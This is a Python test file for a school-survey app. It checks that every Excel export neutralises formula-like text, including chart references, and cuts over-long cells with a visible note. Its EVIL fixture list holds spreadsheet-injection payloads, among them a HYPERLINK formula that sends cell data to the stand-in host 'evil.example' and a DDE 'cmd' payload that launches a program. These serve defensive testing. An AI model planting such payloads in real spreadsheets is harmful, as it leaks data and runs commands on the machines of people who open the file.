"""Every .xlsx the app writes goes through one writer rule (issue 14, item 11): no text becomes a formula,
a link or a chart reference, and a text too long for a cell is cut with a note, never silently."""

from __future__ import annotations

import dataclasses
import re
import zipfile

import openpyxl
import pytest

from schoolvault.xlsx import CELL_MAX, cell_text, new_workbook

EVIL = ['=HYPERLINK("http://evil.example/?"&A1,"클릭")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)",
        "＝1+1"]


def _formulas(path) -> list[str]:
    """Cells stored as formulas, and chart titles/series names that point at a cell."""
    wb = openpyxl.load_workbook(path)
    found = [f"{ws.title}!{c.coordinate}" for ws in wb.worksheets for row in ws.iter_rows() for c in row
             if c.data_type == "f"]
    with zipfile.ZipFile(path) as z:
        for n in z.namelist():
            if n.startswith("xl/charts/"):
                xml = z.read(n).decode("utf-8")
                found += [f for f in re.findall(r"<c:tx><c:strRef><c:f>([^<]*)</c:f>", xml)
                          if not re.fullmatch(r"'?[^!]+'?!\$[A-Z]+\$\d+", f)]
    return found


def test_a_long_formula_like_answer_is_cut_with_a_note_not_silently():
    text = "=" + "가" * (CELL_MAX - 1)  # 32,767 characters: the apostrophe makes it one too many
    out, cut = cell_text(text)
    assert cut and out.startswith("'=") and len(out.encode("utf-16-le")) // 2 <= CELL_MAX
    missing = len(text) + 1 - (len(out) - len(out[out.index(" … ["):]))
    assert f"뒤의 {missing:,}자를 싣지 못했습니다" in out


def test_a_text_that_fits_is_only_neutralised():
    assert cell_text("=1+1") == ("'=1+1", False)
    assert cell_text("좋은 학교") == ("좋은 학교", False)
    assert cell_text("가" * CELL_MAX) == ("가" * CELL_MAX, False)


def test_the_writer_rule_covers_every_write_and_chart_names(tmp_path):
    wb = new_workbook(tmp_path / "t.xlsx")
    ws = wb.add_worksheet("요약")
    ws.write(0, 0, EVIL[0])
    ws.write_row(1, 0, EVIL[1:])
    ws.write_string(2, 0, "=" + "x" * (CELL_MAX - 1))
    ws.write_number(3, 0, 5)
    ch = wb.add_chart({"type": "bar"})
    ch.add_series({"values": ["요약", 3, 0, 3, 0], "name": "요약!A1"})
    ch.set_title({"name": "=요약!A1"})
    ws.insert_chart(5, 5, ch)
    wb.close()
    assert wb.cut_cells == [("요약", 2, 0)]
    assert _formulas(tmp_path / "t.xlsx") == []
    book = openpyxl.load_workbook(tmp_path / "t.xlsx")["요약"]
    assert [c.value for c in book[2]][:len(EVIL) - 1] == ["'" + e for e in EVIL[1:]]
    assert book["A4"].value == 5


def _evil_survey():
    from schoolvault.catalog import resolve
    sv = resolve(None, "sodi-example-2025").instrument
    d0 = sv.domains[0]
    f0 = d0.factors[0]
    item = dataclasses.replace(f0.items[0], text=EVIL[0])
    f0 = dataclasses.replace(f0, items=(item, *f0.items[1:]), title=EVIL[1])
    d0 = dataclasses.replace(d0, factors=(f0, *d0.factors[1:]), title="+SUM(1)")
    return dataclasses.replace(sv, domains=(d0, *sv.domains[1:]), title="=요약!A1")


def test_the_blank_template_keeps_item_texts_and_titles_plain(tmp_path):
    from schoolvault.importing.template import write_template
    write_template(_evil_survey(), "교원", tmp_path / "양식.xlsx")
    assert _formulas(tmp_path / "양식.xlsx") == []
    wb = openpyxl.load_workbook(tmp_path / "양식.xlsx")
    assert wb["문항"]["B2"].value == "'" + EVIL[0] and wb["안내"]["A1"].value == "'=요약!A1"


def test_the_district_submission_writer_keeps_its_checksum_with_neutralised_text(tmp_path):
    from schoolvault import submission
    from schoolvault.district.reader import read_submission
    from schoolvault.district.writer import write_submission
    rows = [("item", "sodi", "교원", "A1", EVIL[1], 12, 3.5, 0.5, 62.5, 0.5, None, None)]
    meta = {"school_name": "=HYPERLINK(\"x\")", "school_code": "B1", "level": "초", "district": "동부",
            "year": 2025, "exported_at": "2025-12-01T00:00:00+09:00", "app_version": "t", "rating_points": 4}
    path = write_submission(tmp_path / "s.xlsx", rows, meta)
    assert _formulas(path) == []
    got = read_submission(path)
    assert got.checksum_ok
    cells = openpyxl.load_workbook(path)[submission.SUBMISSION_SHEET]
    assert cells["E2"].value == "'" + EVIL[1]


@pytest.mark.parametrize("comment", [EVIL[0], ("=" + "좋은 의견입니다 " * CELL_MAX)[:CELL_MAX]])
def test_the_workbook_writes_no_formula_and_says_when_it_cut(demo_ws, tmp_path, comment):
    from test_reports_workbook import SODI, _replace_group

    from schoolvault.reports.workbook import export_workbook
    _replace_group(demo_ws, SODI, "교원", 10, comment)
    r = export_workbook(demo_ws, tmp_path / "b.xlsx")
    assert _formulas(tmp_path / "b.xlsx") == []
    cells = [str(c) for row in openpyxl.load_workbook(tmp_path / "b.xlsx")["의견"].iter_rows(values_only=True)
             for c in row if c]
    # the end of the answer is there (continued in the rows below), or the cell says what it left out
    assert any(c.endswith(comment[-30:].strip()) for c in cells) or (
        r["cut_cells"] and any("싣지 못했습니다]" in c for c in cells))


def test_the_fast_path_skips_no_risky_first_character():
    """`cell_text` returns most texts after one set lookup; for every first character (the whole BMP, with a
    formula after it) the answer is what the full rule (`neutralize_formula`) gives."""
    from schoolvault.safe_text import neutralize_formula
    for n in range(0x10000):
        if 0xD800 <= n <= 0xDFFF:
            continue
        for text in (chr(n) + "=1+1", chr(n) + " +A1", chr(n)):
            assert cell_text(text) == (neutralize_formula(text), False), hex(n)
    assert cell_text("") == ("", False)


def test_raw_numbers_are_numbers_only(tmp_path):
    wb = new_workbook(tmp_path / "n.xlsx", {"constant_memory": True})
    ws = wb.add_worksheet("원자료")
    ws.write_numbers(0, [(0, 1), (2, 3.5)])
    with pytest.raises(TypeError):
        ws.write_numbers(1, [(0, "=1+1")])
    wb.close()
    assert [c.value for c in openpyxl.load_workbook(tmp_path / "n.xlsx")["원자료"][1]] == [1, None, 3.5]


def test_every_sheet_of_the_workbook_keeps_text_plain(demo_ws, tmp_path):
    """Formula-like text wherever people type it (school name, self-evaluation, comments) is neutralised on
    every sheet it reaches, and no text cell of any sheet could run as a formula."""
    from test_reports_workbook import EVAL, SODI, _replace_group

    from schoolvault import services, submission
    from schoolvault.reports.workbook import export_workbook
    from schoolvault.safe_text import is_formula_like
    from schoolvault.workspace import school as school_db
    with demo_ws.transaction():
        school_db.save_school(demo_ws, dataclasses.replace(school_db.get_school(demo_ws), name=EVIL[1]))
    _replace_group(demo_ws, SODI, "교원", 10, EVIL[0])
    _replace_group(demo_ws, EVAL, "교원", 8, "+급식 메뉴 " + "정말 좋아요 " * 900)  # long: continued below
    codes = [r["indicator"] for r in services.self_eval_list(demo_ws)]
    services.self_eval_set(demo_ws, codes[0], evidence=EVIL[2], achievements=EVIL[3])
    services.self_eval_set(demo_ws, codes[1], improvements="@" + "개선 " * 4000)
    r = export_workbook(demo_ws, tmp_path / "b.xlsx")
    assert _formulas(tmp_path / "b.xlsx") == []
    book = openpyxl.load_workbook(tmp_path / "b.xlsx", read_only=True)
    texts = {ws.title: [v for row in ws.iter_rows(values_only=True) for v in row if isinstance(v, str)]
             for ws in book.worksheets}
    assert set(r["sheets"]) <= set(texts) and "의견 주제" in texts
    for name, cells in texts.items():
        assert not [v for v in cells if is_formula_like(v)], name
    expect = {"요약": ["'" + EVIL[1]], submission.META_SHEET: ["'" + EVIL[1]],
              "지표별 자체평가": ["'" + EVIL[2], "'" + EVIL[3], "'@개선 개선"],
              "의견": ["'" + EVIL[0], "'+급식 메뉴 정말"]}
    for name, starts in expect.items():
        for s in starts:
            assert any(v.startswith(s) for v in texts[name]), (name, s)
